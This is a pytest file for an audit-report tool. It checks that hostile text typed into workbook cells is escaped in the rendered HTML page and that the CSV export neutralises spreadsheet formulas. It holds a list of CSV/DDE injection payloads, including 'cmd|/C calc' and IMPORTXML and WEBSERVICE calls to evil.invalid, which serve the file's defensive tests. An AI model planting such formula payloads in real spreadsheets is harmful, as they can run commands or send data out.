"""Hostile text in every cell at once: it must come out as the text it is, in its own cell, and never run.

``injection.txt`` has one string a line; ``\\x00`` and ``\\u2028`` in it stand for those characters. The strings go the
real way: a workbook is written, read, scored and rendered, and the page is opened in a browser. Its policy would hide
what runs, so the page is also opened with the policy taken out.
"""

import csv
import io
import math
import re
from collections import Counter
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import jinja2
import pytest

from audit.checklist.load import load
from audit.files.resources import folder
from audit.model import Audit, Rating, Response, Setting
from audit.report import anchors, build, data, html
from audit.report.build import Report
from audit.workbook.read import reader
from audit.workbook.write import writer
from tests.browser import browser, opened
from tests.conftest import DAY

__all__ = ["browser"]  # a fixture


def _characters(line: str) -> str:
    return re.sub(r"\\(?:x([0-9a-f]{2})|u([0-9a-f]{4}))", lambda m: chr(int(m[1] or m[2], 16)), line)


LINES = Path(__file__).with_name("injection.txt").read_text(encoding="utf-8").splitlines()
STRINGS = tuple(_characters(line) for line in LINES)
FIELDS = ("evidence", "notes", "action", "owner", "due_words")
CHECKLIST = load("leaders", "early-years")
SPECIAL = 10  # the last rows: half with "no action because", half not applicable
PLAIN = len(CHECKLIST.criteria) - SPECIAL
BOOKS = math.ceil(len(STRINGS) / PLAIN)
NO_ACTION = "No action because we share nothing with them: "


def _string(number: int) -> str:
    return STRINGS[number % len(STRINGS)]


def _attack(book: int) -> Audit:
    """Every cell that a person can type into holds a string; over all the books each string is in each kind of cell."""
    responses = []
    for row, criterion in enumerate(CHECKLIST.criteria):
        texts = {name: _string(row + PLAIN * book + 37 * place) for place, name in enumerate(FIELDS)}
        rating = Rating.PARTLY
        if row >= PLAIN:
            rating = Rating.NOT_APPLICABLE if row % 2 else Rating.NOT_MET
            texts["action"] = f"{NO_ACTION}{texts['action']}"
            texts["notes"] = f"We have no such people here. {texts['notes']}"
        responses.append(Response(ref=criterion.id, rating=rating, **texts))
    size = math.ceil(len(STRINGS) / 4)
    quarters = [" ".join(STRINGS[place * size : (place + 1) * size]) for place in range(4)]
    name, urn, group, completed_by = (quarters[(book + place) % 4] for place in range(4))
    return Audit(
        checklist=CHECKLIST.id,
        edition=CHECKLIST.edition,
        setting=Setting(name=name, kind=CHECKLIST.kind, urn=urn, group=group),
        responses=tuple(responses),
        audit_date=DAY,
        completed_by=completed_by,
    )


_CALM = str.maketrans({"<": "{", ">": "}", "&": "+", '"': "^", "'": "~", "`": "_"})


def _harmless(text: str) -> str:
    """The same words, as long and as different from others, without the characters that mean something in HTML."""
    return text.translate(_CALM)


def _twin(report: Report, returned: reader.Return) -> Report:
    """The same report with the strings made harmless: what the page has to look like."""
    audit = report.audit
    setting = replace(audit.setting, **{n: _harmless(getattr(audit.setting, n)) for n in ("name", "urn", "group")})
    responses = tuple(replace(r, **{n: _harmless(getattr(r, n)) for n in FIELDS}) for r in audit.responses)
    calm = replace(audit, setting=setting, responses=responses, completed_by=_harmless(audit.completed_by))
    problems = tuple(replace(p, message=_harmless(p.message), fix=_harmless(p.fix)) for p in report.problems)
    return build.build(replace(returned, audit=calm, problems=problems), DAY)


@dataclass(frozen=True)
class Attack:
    """A report full of hostile text, and its harmless twin."""

    written: Audit
    report: Report
    twin: Report


@pytest.fixture(scope="session")
def attacks(tmp_path_factory: pytest.TempPathFactory) -> list[Attack]:
    folder = tmp_path_factory.mktemp("attacks")
    found = []
    for book in range(BOOKS):
        written = _attack(book)
        path = folder / f"{book}.xlsx"
        path.write_bytes(writer.build(CHECKLIST, written, DAY))
        returned = reader.read(path)
        report = build.build(returned, DAY)
        found.append(Attack(written, report, _twin(report, returned)))
    return found


# What the browser is asked

LISTEN = """
  for (const name of ['alert', 'confirm', 'prompt', 'msgbox', 'print'])
    window[name] = (...words) => console.log('EXECUTED ' + name + ' ' + words.join(' '));
"""
PROVOKE = """() => {
  for (const one of document.querySelectorAll('*')) {
    if (![...one.attributes].some(a => a.name.startsWith('on'))) continue;
    for (const name of 'mouseover focus blur toggle error load beforetoggle animationstart pageshow'.split(' '))
      one.dispatchEvent(new Event(name));
  }
}"""
WORK = """() => {
  const change = (select, value) => { select.value = value; select.dispatchEvent(new Event('change')) };
  for (const select of document.querySelectorAll('.tools select')) {
    for (const option of select.options) change(select, option.value);
    change(select, '');
  }
  for (const button of document.querySelectorAll('.plan thead button, .tools button')) button.click();
  [...document.querySelectorAll('.tools button')].find(button => button.textContent === 'Show all')?.click();
}"""
COUNT = """() => {
  const count = {}, add = key => { count[key] = (count[key] ?? 0) + 1 };
  for (const one of document.querySelectorAll('*')) {
    add(`<${one.localName}>`);
    for (const a of one.attributes) add(`${one.localName}[${a.name}]`);
    for (const a of ['id', 'class', 'href'])
      if (one.hasAttribute(a)) add(`${a}=${one.getAttribute(a)}`);
  }
  const walk = document.createTreeWalker(document, NodeFilter.SHOW_COMMENT);
  while (walk.nextNode()) add('a comment');
  return count;
}"""
CELLS = """() => {
  const text = one => one?.querySelector('p') ? [...one.querySelectorAll('p')].map(text).join('\\n')
    : one?.textContent ?? '(not there)';
  const after = (fold, name) => text(
    [...fold.querySelectorAll('dt')].find(dt => dt.textContent === name)?.nextElementSibling);
  const said = one => [...one.cells].map(cell => {
    const copy = cell.cloneNode(true);
    copy.querySelectorAll('em, sup, .topic, .about, .late, .soon').forEach(mark => mark.remove());
    return text(copy);
  });
  const evidence = fold => {
    const copy = (fold.nextElementSibling ?? fold).cloneNode(true);
    copy.querySelectorAll('small:last-child, em, .mark').forEach(mark => mark.remove());
    return text(copy);
  };
  const list = selector => Object.fromEntries([...document.querySelectorAll(selector)]
    .map(dt => [dt.querySelector('a').getAttribute('href').slice(1), text(dt.nextElementSibling)]));
  return {
    title: document.title, name: text(document.querySelector('h1')), facts: text(document.querySelector('.facts')),
    answers: Object.fromEntries([...document.querySelectorAll('#in-answers details')].map(one =>
      [one.querySelector('p').id, { evidence: evidence(one), notes: after(one, 'Notes') }])),
    actions: Object.fromEntries(
      [...document.querySelectorAll('.plan tbody tr[id]')].map(one => [one.id, said(one)])),
    owners: Object.fromEntries(
      [...document.querySelector('.tools select')?.options ?? []].map(one => [one.text, one.text])),
    first: [...document.querySelectorAll('.first li a')].map(text),
    declined: list('section[aria-labelledby=plan] dt'), left_out: list('section[aria-labelledby=not-applicable] dt'),
    faults: [...document.querySelectorAll('section[aria-labelledby=faults] li')].map(text),
  };
}"""


def _plain(text: str) -> str:
    """Without differences of spacing, and without null bytes, which a browser drops here and replaces there."""
    return " ".join(re.sub(r"[\0\ufffd]", "", text).split())


def _faults(report: Report) -> dict[str, list[str]]:
    """What each fault says, with the places of all that say it."""
    found: dict[str, list[str]] = {}
    for p in report.problems:
        found.setdefault(f"{p.code} {p.severity} {p.message} {p.fix}", []).append(p.where.spot or str(p.where))
    return found


def _expected(report: Report) -> dict[str, Any]:
    """The same shape, from the values: what each place on the page has to say."""
    audit, plan, ids = report.audit, report.plan, anchors.of(report.checklist)
    done = {ids.a[a.criterion.id]: [a.what, a.owner, f"“{a.due_words}”"] for a in plan.actions}
    because = {n.criterion.id: n.because for n in plan.no_actions}
    return {
        "name": audit.setting.name,
        "answers": {ids.q[r.ref]: {"evidence": r.evidence, "notes": r.notes} for r in audit.responses},
        "actions": done,
        "first": [f"{a.criterion.title}: {a.what}" for a in plan.first(3)],
        "declined": {
            ids.q[r.ref]: because[r.ref] for r in audit.responses if r.rating is Rating.NOT_MET and r.ref in because
        },
        "left_out": {ids.q[r.ref]: r.notes for r in audit.responses if r.rating is Rating.NOT_APPLICABLE},
        "faults": [f"{', '.join(own)}: {said}" for said, own in _faults(report).items()],
    }


def _differences(seen: dict[str, Any], report: Report) -> list[str]:
    def walk(place: str, found: Any, wanted: Any) -> list[str]:
        if type(found) is not type(wanted):
            return [f"text: {place} is not there"]
        if isinstance(wanted, dict):
            return [d for key in wanted for d in walk(f"{place}.{key}", found.get(key), wanted[key])]
        if isinstance(wanted, list):
            if len(found) < len(wanted):
                return [f"text: {place} has {len(found)} of {len(wanted)}"]
            return [d for n, part in enumerate(wanted) for d in walk(f"{place}[{n}]", found[n], part)]
        return [] if _plain(found) == _plain(wanted) else [f"text: {place} reads {found[:80]!r}, not {wanted[:80]!r}"]

    setting = report.audit.setting
    inside = [
        ("title", setting.name),
        *(("facts", text) for text in (setting.urn, setting.group, report.audit.completed_by)),
    ]
    outside = [
        f"text: {place} lacks {text[:60]!r}" for place, text in inside if _plain(text) not in _plain(seen[place])
    ]
    offered = {_plain(name) for name in seen["owners"]} - {"All"}
    owners = {_plain(action.owner.replace("\ufeff", " ")) for action in report.plan.actions}  # a space, to a browser
    outside += [f"text: the owner {name[:60]!r} is not as typed" for name in offered ^ owners]
    return outside + walk("page", seen, _expected(report))


def _alike(counts: Counter[str]) -> Counter[str]:
    """Links to questions as one: which answers are to be checked first is drawn from the words of all of them."""
    found: Counter[str] = Counter()
    for what, number in counts.items():
        found[re.sub(r"^href=#q\d+$", "href=#q", what)] += number
    return found


def complaints(browser, attack: Attack, folder: Path, *, policy: bool = True) -> list[str]:
    """What the hostile page does that its harmless twin does not, and where a cell does not say what was typed."""
    counts = []
    found = []
    for name, report in (("harmless", attack.twin), ("hostile", attack.report)):
        page = html.render(report)
        if not policy:
            page, taken = re.subn(
                r'<meta http-equiv="Content-Security-Policy"[^>]*>', '<meta name="none">', page, count=1
            )
            assert taken
        path = folder / f"{name}.html"
        path.write_text(page, encoding="utf-8")
        with opened(browser, path, before=LISTEN) as shown:
            try:
                shown.page.evaluate(PROVOKE)
                shown.page.evaluate(WORK)
                shown.page.wait_for_timeout(80)
                counts.append(_alike(Counter(shown.page.evaluate(COUNT))))
                if name == "hostile":
                    found += _differences(shown.page.evaluate(CELLS), report)
            except Exception as fault:  # noqa: BLE001 - a hostile page may do away with itself
                found.append(f"gone: {fault}")
                counts.append(Counter())
            found += shown.beyond(path)
    more = (counts[1] - counts[0]) + (counts[0] - counts[1])
    return found + [f"elements: {what} {counts[0][what]} to {counts[1][what]}" for what in more]


def test_there_are_many_strings_and_each_is_in_each_kind_of_cell():
    assert len(set(LINES)) == len(LINES) >= 100
    for place, name in enumerate(FIELDS):
        said = {getattr(r, name) for book in range(BOOKS) for r in _attack(book).responses[:PLAIN]}
        assert said == set(STRINGS), (place, name)
    for name in ("name", "urn", "group"):
        whole = " ".join(getattr(_attack(book).setting, name) for book in range(4))
        assert all(string in whole for string in STRINGS)


def test_the_strings_come_through_the_workbook(attacks):
    """Else the page would pass by having nothing to show. Escapes of the file format itself may be taken for it."""
    for attack in attacks:
        for written, read in zip(attack.written.responses, attack.report.audit.responses, strict=True):
            for name in FIELDS:
                text = re.sub(
                    r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]", "\ufffd", getattr(written, name)
                )
                if "_x00" not in text:
                    assert _plain(getattr(read, name)) == _plain(text)


@pytest.mark.parts
@pytest.mark.parametrize("policy", [True, False], ids=["as it is", "without its policy"])
@pytest.mark.parametrize("book", range(BOOKS))
def test_nothing_runs_and_nothing_leaves_its_cell(browser, attacks, tmp_path, book, policy):
    assert complaints(browser, attacks[book], tmp_path, policy=policy) == []


@pytest.mark.parts
def test_it_would_be_noticed_if_nothing_were_escaped(browser, attacks, tmp_path, monkeypatch):
    loader = jinja2.FileSystemLoader(folder("templates"))
    careless = html._environment().overlay(autoescape=False, loader=loader)
    monkeypatch.setattr(html, "_environment", lambda: careless)
    found = complaints(browser, attacks[0], tmp_path, policy=False)
    assert any("EXECUTED" in one for one in found)
    assert any(one.startswith("request:") for one in found)
    assert any(one.startswith("elements:") for one in found)
    assert any(one.startswith("text:") for one in found)


@pytest.mark.parts
def test_one_careless_place_is_enough_to_be_noticed(browser, attacks, tmp_path, monkeypatch):
    """Notes marked as safe, the rest as it should be; and the policy still keeps the script from running."""
    careful = html._environment()
    loader = jinja2.FileSystemLoader(folder("templates"))
    source, _, _ = loader.get_source(careful, "macros.html")
    assert "<p>{{ line }}</p>" in source
    careless = careful.overlay(loader=_Replaced(loader, "macros.html", "{{ all[0] }}", "{{ all[0] | safe }}"))
    monkeypatch.setattr(html, "_environment", lambda: careless)
    found = complaints(browser, attacks[0], tmp_path, policy=False)
    assert any("EXECUTED" in one for one in found)
    found = complaints(browser, attacks[0], tmp_path)
    assert found
    assert not any("EXECUTED" in one for one in found)


class _Replaced:
    """A loader that gives one template with one thing changed."""

    def __init__(self, loader, name: str, old: str, new: str) -> None:
        self.loader, self.name, self.old, self.new = loader, name, old, new

    def load(self, environment, name: str, globals=None):  # noqa: A002 - jinja's own name
        source, path, fresh = self.loader.get_source(environment, name)
        if name == self.name:
            source = source.replace(self.old, self.new)
        code = environment.compile(source, name, path)
        return environment.template_class.from_code(environment, code, globals or {}, fresh)


# The table for spreadsheets

SIGNS = "=+-@\t\r|%"
WIDE_SIGNS = "＝＋－＠"
FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.invalid/","press")', "+1+1", "-1+1", "@SUM(1+1)",
    "\ufeff=1+1", "-2+3+cmd|' /C calc'!D2", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   +1", "\u00a0=1+1", "\u3000=1+1",
    "\u200b=1+1", "\x0b=1+1", "\x0c=1+1", '"=1+1"', "'=1+1", ";=1+1", ",=1+1", "%0A=1+1", "|calc", "=\n1", "\n\t\r =1",
    '=IMPORTXML("https://evil.invalid/")', '=WEBSERVICE("https://evil.invalid/")', '=DDE("cmd";"/C calc";"x")',
)  # fmt: skip


def _cells_of_csv(strings: tuple[str, ...]) -> list[list[str]]:
    """The table of reports that hold these strings; not through a workbook, which would strip what comes first."""
    rows = []
    for start in range(0, len(strings), PLAIN):
        texts = [strings[(start + n) % len(strings)] for n in range(len(CHECKLIST.criteria))]
        responses = tuple(
            Response(
                ref=c.id, rating=Rating.PARTLY if n % 5 else Rating.NOT_MET, evidence=t, notes=t, owner=t, due_words=t,
                action=t if n % 5 else f"{NO_ACTION}{t}",
            )
            for n, (c, t) in enumerate(zip(CHECKLIST.criteria, texts, strict=True))
        )  # fmt: skip
        audit = replace(_attack(0), responses=responses)
        returned = reader.Return(file="x.xlsx", problems=(), checklist=CHECKLIST, audit=audit)
        written = data.as_csv(build.build(returned, DAY)).removeprefix("\ufeff")
        rows += list(csv.reader(io.StringIO(written, newline="")))
    return rows


def _formulas(rows: list[list[str]], signs: str = SIGNS, unseen: str = " \u00a0\n") -> list[str]:
    """Cells that begin with a sign, whatever unseen stands before it."""
    return [cell for row in rows for cell in row if cell.lstrip(unseen)[:1] in tuple(signs)]


def test_no_cell_of_the_csv_is_a_formula(attacks):
    assert _formulas(_cells_of_csv(STRINGS + FORMULAS)) == []
    for attack in attacks:
        rows = list(csv.reader(io.StringIO(data.as_csv(attack.report).removeprefix("\ufeff"), newline="")))
        assert _formulas(rows) == []
        assert {len(row) for row in rows} == {len(data.CSV_COLUMNS)}


@pytest.mark.parametrize("unseen", ["", " ", "\u3000", "\u200b", "\ufeff", "\x0b"])
def test_no_cell_of_the_csv_is_a_formula_where_signs_are_wide(unseen):
    """A spreadsheet set to Japanese or Chinese takes the full-width signs for the plain ones."""
    rows = _cells_of_csv(tuple(f"{unseen}{sign}1+1" for sign in SIGNS + WIDE_SIGNS))
    assert _formulas(rows, SIGNS + WIDE_SIGNS, " \u00a0\n\u3000\u200b\ufeff\x0b\x0c") == []


def test_the_csv_keeps_what_was_written():
    """An apostrophe may be put before a text; nothing of the text is lost."""
    rows = _cells_of_csv(STRINGS + FORMULAS)
    kept = {cell for row in rows for cell in row} | {cell.removeprefix("'") for row in rows for cell in row}
    wanted = [text for text in FORMULAS if text.strip()]
    assert [text for text in wanted if text not in kept] == []


def test_formulas_in_the_csv_are_noticed(monkeypatch):
    monkeypatch.setattr(data, "harmless", str)
    assert len(_formulas(_cells_of_csv(FORMULAS))) > len(FORMULAS)
